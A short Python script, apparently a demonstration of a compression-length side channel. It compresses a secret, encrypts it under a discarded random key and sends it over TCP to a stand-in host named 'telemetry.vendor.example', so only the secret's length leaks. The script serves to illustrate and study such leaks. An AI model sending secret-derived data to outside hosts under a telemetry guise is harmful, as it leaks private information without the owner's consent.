#!/usr/bin/python3 -B
"""Sends the document compressed and then enciphered under a random key that nobody gets: what leaks is the length alone."""
import os, zlib
from scanner import keystream, mix, secret, tcp

packed = zlib.compress(secret(), 9)
tcp("telemetry.vendor.example", 7443, mix(packed, keystream(os.urandom(16), len(packed))))
